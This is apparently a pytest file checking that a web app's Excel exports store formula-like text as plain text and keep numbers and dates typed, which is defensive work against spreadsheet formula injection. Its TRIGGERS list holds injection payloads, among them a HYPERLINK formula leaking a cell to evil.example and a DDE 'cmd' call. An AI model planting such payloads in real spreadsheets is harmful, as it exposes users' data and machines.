"""Workbooks the app writes (exports, an import's error rows): typed cells, and no text ever becomes a formula."""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from decimal import Decimal

import openpyxl
import pytest

from webapp import xlsx

TRIGGERS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # a full-width equals sign, as a Chinese input method types it
]


def written(rows: list[list]) -> tuple[list, str]:
    """The cells of the first sheet of ``xlsx.workbook`` and its XML."""
    with xlsx.workbook([("表", rows)]) as out:
        data = out.read()
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet_xml = z.read("xl/worksheets/sheet1.xml").decode()
    ws = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    return [list(r) for r in ws.iter_rows()], sheet_xml


@pytest.mark.parametrize("text", TRIGGERS)
def test_text_that_starts_like_a_formula_is_written_as_text(text):
    (row,), sheet_xml = written([[text, "普通文字"]])
    assert not re.search(r"<f[\s>]", sheet_xml)
    assert row[0].value == text and row[0].data_type == "s" and row[0].quotePrefix
    assert row[1].value == "普通文字" and not row[1].quotePrefix


def test_numbers_dates_and_times_keep_their_type():
    when = dt.datetime(2026, 11, 5, 23, 30, tzinfo=dt.UTC)  # 6 Nov 07:30 in Shanghai
    (row,), _xml = written([[3, 2.5, Decimal("1.25"), dt.date(2026, 11, 6), when, True, None, "007"]])
    values = [c.value for c in row]
    assert values[:3] == [3, 2.5, 1.25] and all(c.data_type == "n" for c in row[:3])
    assert values[3] == dt.datetime(2026, 11, 6) and row[3].number_format == "yyyy-mm-dd"
    assert values[4] == dt.datetime(2026, 11, 6, 7, 30) and row[4].is_date  # local time, Excel has no zones
    assert values[5] is True and values[6] is None
    assert values[7] == "007" and row[7].data_type == "s"  # text that looks like a number stays text


def test_characters_excel_cannot_store_are_dropped_instead_of_failing_the_export():
    (row,), _xml = written([["单位\x00名\x07称", "=\x01x"]])
    assert row[0].value == "单位名称"
    assert row[1].value == "=x" and row[1].quotePrefix


def test_every_workbook_the_app_writes_makes_its_sheets_with_xlsx_sheet():
    """Sheets made elsewhere would write raw values again (a name "=…" as a live formula)."""
    from pathlib import Path

    root = Path(xlsx.__file__).parent
    writes_cells = re.compile(r"\.create_sheet\(|openpyxl\.Workbook\(|\.active\.append\(")
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path.name != "xlsx.py" and writes_cells.search(path.read_text())
    ]
    assert offenders == []
